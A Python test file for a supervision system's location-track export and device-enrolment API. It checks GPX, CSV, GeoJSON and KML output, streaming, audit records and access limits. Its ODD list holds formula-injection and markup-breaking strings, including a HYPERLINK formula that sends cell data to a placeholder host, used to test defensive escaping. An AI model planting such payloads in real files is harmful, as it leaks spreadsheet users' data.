"""Track exports (GeoJSON, GPX, CSV, KML: streamed, complete, audited) and the enrolment links
(OwnTracks QR, Traccar Client URL)."""

from __future__ import annotations

import base64
import csv
import io
import json
import re
import time
import tracemalloc
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from urllib.parse import parse_qs, unquote, urlsplit

import httpx
import psycopg
import pytest
import segno
from fastapi.testclient import TestClient

from api.enrolment import qr_svg
from api.exports import EXPORT_APPLICATION, ExportFormat, file_chunks, open_track
from ingest.mqtt_worker import route
from store.db import get_engine
from store.settings import Settings, set_settings
from tests.conftest import JIANGAN, Org, login
from tests.geo import deep_inside
from tests.services import api_server, until
from tests.test_api import API, enrol

GPX = "{http://www.topografix.com/GPX/1/1}"
CCS = "{urn:ccs:gpx:1}"
KML = "{http://www.opengis.net/kml/2.2}"
BIG = 120_000  # more than the old cap (100,000) cut exports at
T0 = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
# Export connections of this test database (another checkout's tests may export meanwhile).
MINE = "datname = current_database() AND application_name = %s"


def report_fixes(client: TestClient, secret: str, device_id: str, n: int, t0: float) -> None:
    """`n` fixes one minute apart through the real Traccar Client (OsmAnd) endpoint."""
    lon, lat = deep_inside(JIANGAN)
    for i in range(n):
        r = client.post(f"{API}/ingest/osmand/{secret}", params={
            "id": device_id, "lat": lat + i * 0.0003, "lon": lon, "timestamp": int(t0 + 60 * i),
            "accuracy": 10 + i, "altitude": 20})
        assert r.status_code == 200, r.text


def period(t0: float) -> dict[str, str]:
    return {"from": datetime.fromtimestamp(t0 - 60, UTC).isoformat(),
            "to": datetime.fromtimestamp(t0 + 3600, UTC).isoformat()}


def test_track_exports_gpx_csv_geojson_audited_with_purpose_and_format(
        client: TestClient, org: Org, db: psycopg.Connection):
    h = login(client, "jiangan-officer")
    cred = enrol(client, h, org.supervisee_id)
    t0 = time.time() - 1800
    report_fixes(client, cred["secret"], cred["device_id"], 5, t0)
    url = f"{API}/supervisees/{org.supervisee_id}/track"
    q = {**period(t0), "purpose": "轨迹核查 export check"}

    r = client.get(url, params={**q, "format": "gpx"}, headers=h)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/gpx+xml")
    assert r.headers["content-disposition"].startswith("attachment;")
    root = ET.fromstring(r.content)
    assert root.tag == f"{GPX}gpx" and root.get("version") == "1.1"
    pts = root.findall(f"{GPX}trk/{GPX}trkseg/{GPX}trkpt")
    assert len(pts) == 5
    times = [datetime.fromisoformat(p.findtext(f"{GPX}time") or "") for p in pts]
    assert times == sorted(times) and abs(times[0].timestamp() - int(t0)) < 1
    assert [float(p.findtext(f"{GPX}extensions/{CCS}accuracy") or 0) for p in pts] == [
        10, 11, 12, 13, 14]
    assert pts[0].find(f"{GPX}hdop") is None

    r = client.get(url, params={**q, "format": "csv"}, headers=h)
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert len(rows) == 5
    assert [float(x["accuracy"]) for x in rows] == [10, 11, 12, 13, 14]
    assert rows[0]["source"] == "osmand_http" and float(rows[4]["lat"]) > float(rows[0]["lat"])

    r = client.get(url, params={**q, "format": "geojson"}, headers=h)
    assert r.status_code == 200 and r.headers["content-type"].startswith("application/geo+json")
    fc = r.json()
    kinds = [f["geometry"]["type"] for f in fc["features"]]
    assert kinds == ["LineString"] + ["Point"] * 5

    audit = db.execute("""SELECT action, purpose, detail->>'format', (detail->>'fixes')::int
                            FROM audit_log WHERE action LIKE 'location.%' ORDER BY id""").fetchall()
    assert audit == [("location.export_track", "轨迹核查 export check", f, 5)
                     for f in ("gpx", "csv", "geojson")]

    # Without a purpose nothing is exported; another district's officer does not see the person.
    assert client.get(url, params={**period(t0), "format": "gpx"}, headers=h).status_code == 422
    other = login(client, "jianghan-officer")
    r = client.get(url, params={**q, "format": "gpx"}, headers=other)
    assert r.status_code == 404
    assert db.execute("SELECT count(*) FROM audit_log WHERE action = 'location.export_track'"
                      ).fetchone() == (3,)


def svg_modules(svg: ET.Element, border: int) -> set[tuple[int, int]]:
    """The dark modules drawn by segno's SVG path (absolute M, relative m, horizontal runs h)."""
    [path] = [e for e in svg.iter() if e.tag.endswith("path")]
    x = y = 0.0
    dark: set[tuple[int, int]] = set()
    for cmd, args in re.findall(r"([MmHh])([-\d. ]+)", path.get("d") or ""):
        nums = [float(v) for v in args.split()]
        if cmd == "M":
            x, y = nums
        elif cmd == "m":
            x, y = x + nums[0], y + nums[1]
        else:
            run = int(nums[0])
            dark |= {(int(x) + i - border, int(y) - border) for i in range(run)}
            x += run
    return dark


def _inline(link: str) -> dict:
    parts = urlsplit(link)
    assert (parts.scheme, parts.path) == ("owntracks", "/config")
    return json.loads(base64.b64decode(parse_qs(parts.query)["inline"][0], validate=True))


def test_enrolment_gives_an_owntracks_link_its_qr_and_the_traccar_url(
        client: TestClient, org: Org, settings: Settings):
    cred = enrol(client, login(client, "jiangan-officer"), org.supervisee_id)
    e = cred["enrolment"]
    conf = _inline(e["owntracks_link"])
    assert conf["_type"] == "configuration" and conf["mode"] == 0  # MQTT
    assert (conf["host"], conf["port"]) == (settings.mqtt_host, settings.mqtt_port)
    assert (conf["username"], conf["password"]) == (cred["device_id"], cred["secret"])
    assert conf["deviceId"] == conf["clientId"] == cred["device_id"] and len(conf["tid"]) == 2
    # The topic the app publishes to is the one the ingest worker routes to this device.
    assert conf["pubTopicBase"] == cred["mqtt"]["owntracks_topic"]
    assert conf["pubTopicBase"].startswith(settings.mqtt_topic_prefix)
    msg = route(conf["pubTopicBase"], b"{}", time.time(), settings.mqtt_topic_prefix)
    assert msg.device_id == cred["device_id"] and msg.channel.value == "owntracks_mqtt"

    # The QR code is the link: the same modules as segno's code for the link.
    prefix = "data:image/svg+xml;charset=utf-8,"
    assert e["owntracks_qr_svg"].startswith(prefix) and e["owntracks_qr_svg"] == qr_svg(
        e["owntracks_link"])
    svg = ET.fromstring(unquote(e["owntracks_qr_svg"][len(prefix):]))
    assert svg.tag.endswith("svg")
    expected = segno.make(e["owntracks_link"], error="m", micro=False)
    side = len(list(expected.matrix)) + 8  # 4-module quiet zone each side, scale 4
    assert float(svg.get("width") or 0) == side * 4
    # The modules drawn are exactly those of a QR code of the link.
    want = {(c, r) for r, row in enumerate(expected.matrix) for c, v in enumerate(row) if v}
    assert svg_modules(svg, 4) == want
    assert bytes(expected.matrix[0][:7]) == b"\x01" * 7  # a finder pattern: a real QR matrix

    assert e["traccar_client_url"] == cred["http"]["traccar_client_url"]
    assert e["traccar_client_url"] == f"{settings.public_base_url}/api/v1/ingest/osmand/{cred['secret']}"
    assert e["traccar_client_device_identifier"] == cred["device_id"]


def test_enrolment_link_in_http_mode_points_at_the_owntracks_endpoint(
        client: TestClient, org: Org, settings: Settings):
    set_settings(settings.model_copy(update={"owntracks_mode": "http"}))
    try:
        cred = enrol(client, login(client, "jiangan-officer"), org.supervisee_id)
    finally:
        set_settings(settings)
    conf = _inline(cred["enrolment"]["owntracks_link"])
    assert conf["mode"] == 3 and "host" not in conf
    assert conf["url"] == f"{settings.public_base_url}/api/v1/ingest/owntracks"
    assert (conf["username"], conf["password"], conf["auth"]) == (
        cred["device_id"], cred["secret"], True)
    # The app's HTTP mode sends Basic device id:secret to that URL: a fix is accepted.
    lon, lat = deep_inside(JIANGAN)
    auth = base64.b64encode(f"{conf['username']}:{conf['password']}".encode()).decode()
    r = client.post(urlsplit(conf["url"]).path, headers={"Authorization": f"Basic {auth}"},
                    json={"_type": "location", "lat": lat, "lon": lon,
                          "tst": int(time.time()), "acc": 9, "tid": conf["tid"]})
    assert r.status_code == 200, r.text



def insert_fixes(db: psycopg.Connection, supervisee_id: int, n: int, t0: datetime = T0,
                 provider: str = "gps") -> dict[str, str]:
    """`n` fixes one second apart straight into positions (generate_series: seconds for 120,000);
    fix i at longitude 114.3 + i * 1e-6, so the order can be read back from any format. Returns
    the period that holds them all."""
    db.execute("""INSERT INTO positions (device_id, supervisee_id, fix_time, received_at, lon, lat,
                                         raw_lon, raw_lat, crs, accuracy, altitude, provider, source)
                  SELECT 'bulk-phone', %(s)s, %(t0)s + i * interval '1 second',
                         %(t0)s + i * interval '1 second' + interval '2 seconds',
                         114.3 + i * 1e-6, 30.6 + (i %% 1000) * 1e-5, 114.3 + i * 1e-6,
                         30.6 + (i %% 1000) * 1e-5, 'wgs84', 5 + i %% 40, 21, %(p)s, 'native_mqtt'
                    FROM generate_series(0, %(n)s - 1) AS i""",
               {"s": supervisee_id, "t0": t0, "n": n, "p": provider})
    return {"from": (t0 - timedelta(minutes=1)).isoformat(),
            "to": (t0 + timedelta(seconds=n)).isoformat()}


def xml_elements(chunks: Iterator[bytes], tag: str) -> Iterator[ET.Element]:
    """Each complete `tag` element of a document read piece by piece (memory stays small)."""
    parser = ET.XMLPullParser(events=("end",))
    for chunk in chunks:
        parser.feed(chunk)
        for _, el in parser.read_events():
            if el.tag == tag:
                yield el
                el.clear()
    parser.close()
    for _, el in parser.read_events():
        if el.tag == tag:
            yield el


def increasing(values: list[float]) -> bool:
    return all(a < b for a, b in zip(values, values[1:], strict=False))


@pytest.mark.long
def test_a_period_beyond_the_old_cap_is_exported_whole_in_every_format(
        client: TestClient, org: Org, db: psycopg.Connection, settings: Settings):
    """120,000 fixes (the old cap cut at 100,000 without a word): each format holds every one, in
    time order, streamed through a real server; the JSON form says it is cut and by how much."""
    h = login(client, "jiangan-officer")
    q = {**insert_fixes(db, org.supervisee_id, BIG), "purpose": "案件复核 full period"}
    url = f"{API}/supervisees/{org.supervisee_id}/track"
    last_lon = 114.3 + (BIG - 1) * 1e-6
    with api_server(settings) as base, httpx.Client(base_url=base, headers=h, timeout=120) as http:
        def get(fmt: str) -> Iterator[bytes]:
            with http.stream("GET", url, params={**q, "format": fmt}) as r:
                assert r.status_code == 200, r.read()
                assert r.headers["content-disposition"].endswith(f".{fmt}")
                yield from r.iter_bytes()

        lons = [float(p.get("lon") or 0) for p in xml_elements(get("gpx"), f"{GPX}trkpt")]
        assert len(lons) == BIG and increasing(lons)
        assert abs(lons[-1] - last_lon) < 1e-9

        rows = list(csv.DictReader(io.StringIO(b"".join(get("csv")).decode())))
        assert len(rows) == BIG and increasing([float(x["lon"]) for x in rows])
        assert datetime.fromisoformat(rows[-1]["fix_time"]) == T0 + timedelta(seconds=BIG - 1)

        fc = json.loads(b"".join(get("geojson")))
        line, *points = fc["features"]
        assert line["geometry"]["type"] == "LineString" and len(line["geometry"]["coordinates"]) == BIG
        assert len(points) == BIG and {p["geometry"]["type"] for p in points} == {"Point"}
        assert increasing([p["geometry"]["coordinates"][0] for p in points])
        del fc, line, points

        # KML: written by the same cursor passes as GeoJSON; the slowest to parse, so counted
        # rather than each fix's time read back (test_kml_export_... reads times in order).
        kml = b"".join(get("kml"))
        assert kml.count(b"<Placemark") == BIG + 1 and kml.count(b"<when>") == BIG
        assert kml.rstrip().endswith(b"</kml>")

        # Without a format: the console's playback keeps its limit, and says so.
        r = http.get(url, params=q)
        assert r.status_code == 200
        body = r.json()
        assert (body["truncated"], body["total"]) == (True, BIG)
        assert sum(f["geometry"]["type"] == "Point" for f in body["features"]) == 10_000

    audit = db.execute("""SELECT action, purpose, detail->>'format', (detail->>'fixes')::int,
                                 (detail->>'total')::int, detail->>'start', detail->>'end'
                            FROM audit_log WHERE action LIKE 'location.%' ORDER BY id""").fetchall()
    period = (q["from"], q["to"])
    assert audit == [("location.export_track", "案件复核 full period", f, BIG, None, *period)
                     for f in ("gpx", "csv", "geojson", "kml")] + [
        ("location.read_track", "案件复核 full period", None, 10_000, BIG, *period)]


def written_size_and_peak_memory(fmt: ExportFormat, supervisee_id: int, seconds: int
                                 ) -> tuple[int, int]:
    """The file's size and the most memory Python held while writing it."""
    track = open_track(supervisee_id, T0, T0 + timedelta(seconds=seconds))
    tracemalloc.start()
    try:
        size = sum(len(c) for c in file_chunks(fmt, track, "T", supervisee_id))
        return size, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        track.close()


def test_an_export_streams_in_bounded_memory(org: Org, db: psycopg.Connection):
    """The file is written from the cursor a few thousand fixes at a time: eight times the fixes
    take no more memory (held in a list, as before, 40,000 took 40 MB)."""
    insert_fixes(db, org.supervisee_id, 40_000)
    # GeoJSON: two passes (the line, then the fixes) and the largest file per fix.
    small_size, small_peak = written_size_and_peak_memory("geojson", org.supervisee_id, 5_000)
    size, peak = written_size_and_peak_memory("geojson", org.supervisee_id, 40_000)
    assert size > 7.9 * small_size
    assert peak < 1.3 * small_peak and peak < 8_000_000, (small_peak, peak)  # ~4 MB both


def pg_exports(db: psycopg.Connection) -> int:
    return db.execute(f"SELECT count(*) FROM pg_stat_activity WHERE {MINE}",
                      (EXPORT_APPLICATION,)).fetchone()[0]  # type: ignore[index]


def wait_for_no_export_connection(db: psycopg.Connection) -> None:
    deadline = time.monotonic() + 10
    while pg_exports(db):
        assert time.monotonic() < deadline, "the export's connection outlived its response"
        time.sleep(0.05)


def test_a_stream_holds_no_pooled_connection_and_lets_go_when_the_client_leaves(
        client: TestClient, org: Org, db: psycopg.Connection, settings: Settings):
    h = login(client, "jiangan-officer")
    q = {**insert_fixes(db, org.supervisee_id, BIG), "purpose": "连接检查 connection check"}
    url = f"{API}/supervisees/{org.supervisee_id}/track"
    pool = get_engine().pool
    with api_server(settings) as base, httpx.Client(base_url=base, headers=h, timeout=60) as http:
        assert pool.checkedout() == 0  # type: ignore[attr-defined]
        # Midway through a download (most of the file not yet read): the request's session has
        # given its pooled connection back; the stream reads on its one connection of its own.
        with http.stream("GET", url, params={**q, "format": "csv"}) as r:
            assert r.status_code == 200
            chunks = r.iter_bytes()  # kept: a dropped iterator closes the connection at once
            assert next(chunks).startswith(b"fix_time,lon,lat")
            time.sleep(0.3)
            assert pool.checkedout() == 0  # type: ignore[attr-defined]
            assert pg_exports(db) == 1
            # Read only (no transaction id), whether caught between two fetches of its cursor
            # ("idle in transaction") or in one ("active": the client's buffers were not full).
            state, read_only = db.execute(f"""SELECT state, backend_xid IS NULL
                                                FROM pg_stat_activity WHERE {MINE}""",
                                          (EXPORT_APPLICATION,)).fetchone()
            assert state in ("idle in transaction", "active") and read_only, (state, read_only)
        # The client hung up with most of the file unsent: the connection is closed at once.
        wait_for_no_export_connection(db)
        # A download read to its end closes it too.
        assert len(http.get(url, params={**q, "format": "gpx"}).content) > 10_000_000
        wait_for_no_export_connection(db)
        assert pool.checkedout() == 0  # type: ignore[attr-defined]
    assert db.execute("SELECT count(*) FROM audit_log WHERE action = 'location.export_track'"
                      ).fetchone() == (2,)


ODD = ['<gps & "net">', "a]]>b</provider>", "fused\x01\x1b?", "北斗 'BDS'", "&amp; ;",
       '=HYPERLINK("http://x.example/?"&A1)', "@SUM(1)", "-2+3"]


def test_kml_export_parses_with_times_in_order_and_escapes_odd_provider_strings(
        client: TestClient, org: Org, db: psycopg.Connection):
    h = login(client, "jiangan-officer")
    for i, provider in enumerate(ODD):
        insert_fixes(db, org.supervisee_id, 1, T0 + timedelta(minutes=i), provider=provider)
    q = {"from": T0.isoformat(), "to": (T0 + timedelta(hours=1)).isoformat(),
         "purpose": "KML 核查 kml check", "format": "kml", "limit": 2}
    url = f"{API}/supervisees/{org.supervisee_id}/track"
    r = client.get(url, params=q, headers=h)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"] == "application/vnd.google-earth.kml+xml"
    assert r.headers["content-disposition"] == (
        f'attachment; filename="track-T-{JIANGAN}-20260302T0800Z-20260302T0900Z.kml"; '
        f"filename*=UTF-8''track-T-{JIANGAN}-20260302T0800Z-20260302T0900Z.kml")
    root = ET.fromstring(r.content)
    assert root.tag == f"{KML}kml"
    doc = root.find(f"{KML}Document")
    assert doc is not None and doc.findtext(f"{KML}name") == f"T-{JIANGAN} 20260302T0800Z-20260302T0900Z"
    [track] = doc.findall(f"{KML}Placemark")
    coords = (track.findtext(f"{KML}LineString/{KML}coordinates") or "").split()
    assert [tuple(map(float, c.split(","))) for c in coords] == [(114.3, 30.6)] * len(ODD)
    fixes = doc.findall(f"{KML}Folder/{KML}Placemark")
    assert len(fixes) == len(ODD)  # `limit` is the JSON form's: a file holds the whole period
    times = [datetime.fromisoformat(f.findtext(f"{KML}TimeStamp/{KML}when") or "") for f in fixes]
    assert times == [T0 + timedelta(minutes=i) for i in range(len(ODD))]
    assert [f.findtext(f"{KML}Point/{KML}coordinates") for f in fixes] == ["114.3,30.6"] * len(ODD)

    def data(f: ET.Element) -> dict[str, str | None]:
        return {d.get("name") or "": d.findtext(f"{KML}value")
                for d in f.findall(f"{KML}ExtendedData/{KML}Data")}

    assert data(fixes[0]) == {"accuracy": "5.0", "provider": ODD[0], "source": "native_mqtt",
                              "device_id": "bulk-phone"}
    # Control characters XML cannot carry are replaced (U+FFFD); everything else comes back as is.
    want = [p.replace("\x01", "\ufffd").replace("\x1b", "\ufffd") for p in ODD]
    assert [data(f)["provider"] for f in fixes] == want

    r = client.get(url, params={**q, "format": "gpx"}, headers=h)
    pts = ET.fromstring(r.content).findall(f"{GPX}trk/{GPX}trkseg/{GPX}trkpt")
    assert [p.findtext(f"{GPX}extensions/{CCS}provider") for p in pts] == want
    r = client.get(url, params={**q, "format": "csv"}, headers=h)
    rows = list(csv.DictReader(io.StringIO(r.text)))
    # CSV keeps them, but text a spreadsheet would run as a formula is quoted with an apostrophe
    # (a phone chooses its provider string); numbers stay numbers.
    assert [x["provider"] for x in rows] == [
        "'" + p if p[0] in "=@-" else p for p in ODD]
    assert [float(x["lon"]) for x in rows] == [114.3] * len(ODD)
    r = client.get(url, params={**q, "format": "geojson"}, headers=h)
    assert [f["properties"]["provider"] for f in r.json()["features"][1:]] == ODD

    audit = db.execute("""SELECT detail FROM audit_log WHERE action = 'location.export_track'
                           ORDER BY id""").fetchall()
    assert [a[0] for a in audit] == [
        {"format": f, "fixes": len(ODD), "start": q["from"], "end": q["to"]}
        for f in ("kml", "gpx", "csv", "geojson")]


def test_exports_refused_outside_the_jurisdiction_and_beyond_31_days(
        client: TestClient, org: Org, db: psycopg.Connection):
    insert_fixes(db, org.supervisee_id, 3)
    url = f"{API}/supervisees/{org.supervisee_id}/track"
    q = {"from": T0.isoformat(), "to": (T0 + timedelta(hours=1)).isoformat(),
         "purpose": "越权检查 jurisdiction"}
    other = login(client, "jianghan-officer")
    for fmt in ("kml", "csv", "gpx", "geojson"):
        r = client.get(url, params={**q, "format": fmt}, headers=other)
        assert r.status_code == 404, r.text
        assert "fix_time" not in r.text and "kml" not in r.headers["content-type"]
    h = login(client, "jiangan-officer")
    r = client.get(url, params={**q, "to": (T0 + timedelta(days=32)).isoformat(), "format": "kml"},
                   headers=h)
    assert r.status_code == 422 and "31 days" in r.text
    assert db.execute("SELECT count(*) FROM audit_log WHERE action LIKE 'location.%'"
                      ).fetchone() == (0,)
    # The JSON form: a small period is not cut and says so.
    body = client.get(url, params=q, headers=h).json()
    assert (body["truncated"], body["total"], len(body["features"])) == (False, 3, 4)
    body = client.get(url, params={**q, "limit": 2}, headers=h).json()
    assert (body["truncated"], body["total"], len(body["features"])) == (True, 3, 3)


def test_a_period_with_no_fix_or_one_fix_exports_valid_files(
        client: TestClient, org: Org, db: psycopg.Connection):
    h = login(client, "jiangan-officer")
    url = f"{API}/supervisees/{org.supervisee_id}/track"
    q = {"from": T0.isoformat(), "to": (T0 + timedelta(hours=1)).isoformat(), "purpose": "空时段 empty"}
    for n in (0, 1):
        if n:
            insert_fixes(db, org.supervisee_id, 1)
        kml = ET.fromstring(client.get(url, params={**q, "format": "kml"}, headers=h).content)
        assert len(kml.findall(f"{KML}Document/{KML}Placemark")) == 0  # a line needs two fixes
        assert len(kml.findall(f"{KML}Document/{KML}Folder/{KML}Placemark")) == n
        gpx = ET.fromstring(client.get(url, params={**q, "format": "gpx"}, headers=h).content)
        assert len(gpx.findall(f"{GPX}trk/{GPX}trkseg/{GPX}trkpt")) == n
        fc = client.get(url, params={**q, "format": "geojson"}, headers=h).json()
        assert [f["geometry"]["type"] for f in fc["features"]] == ["Point"] * n
        text = client.get(url, params={**q, "format": "csv"}, headers=h).text
        assert len(list(csv.DictReader(io.StringIO(text)))) == n and text.startswith("fix_time,")
    assert db.execute("""SELECT array_agg((detail->>'fixes')::int ORDER BY id) FROM audit_log
                          WHERE action = 'location.export_track'""").fetchone() == ([0] * 4 + [1] * 4,)


def test_exports_at_once_are_limited_and_a_finished_one_frees_its_place(
        client: TestClient, org: Org, db: psycopg.Connection, settings: Settings):
    """Each export holds a database connection of its own for the whole download: one process
    streams at most `exports_max_concurrent`; one more is refused (429 `exports_busy`, with a
    Retry-After) and is neither audited nor left holding a connection."""
    insert_fixes(db, org.supervisee_id, 3, T0)
    set_settings(settings.model_copy(update={"exports_max_concurrent": 2}))
    h = login(client, "jiangan-officer")
    url = f"{API}/supervisees/{org.supervisee_id}/track"
    q = {"from": T0.isoformat(), "to": (T0 + timedelta(hours=1)).isoformat(),
         "purpose": "并发导出 concurrency", "format": "csv"}
    held = [open_track(org.supervisee_id, T0, T0 + timedelta(hours=1)) for _ in range(2)]
    try:
        r = client.get(url, params=q, headers=h)
        assert r.status_code == 429, r.text
        assert r.json()["error"] == "exports_busy" and r.json()["limit"] == 2
        assert r.headers["retry-after"] == "30"
        held.pop().close()
        r = client.get(url, params=q, headers=h)
        assert r.status_code == 200, r.text
        assert len(list(csv.DictReader(io.StringIO(r.text)))) == 3
        # The finished download gave its place back: another one goes through.
        assert client.get(url, params=q, headers=h).status_code == 200
    finally:
        for t in held:
            t.close()
        set_settings(settings)
    exports = db.execute("SELECT count(*) FROM audit_log WHERE action = 'location.export_track'"
                         ).fetchone()
    assert exports is not None and exports[0] == 2  # the refused one left no export record
    # The last download's connection closes as its response ends (the server's side of it may
    # finish just after the client has read the body).
    assert until(lambda: pg_exports(db) == 0, 10), pg_exports(db)
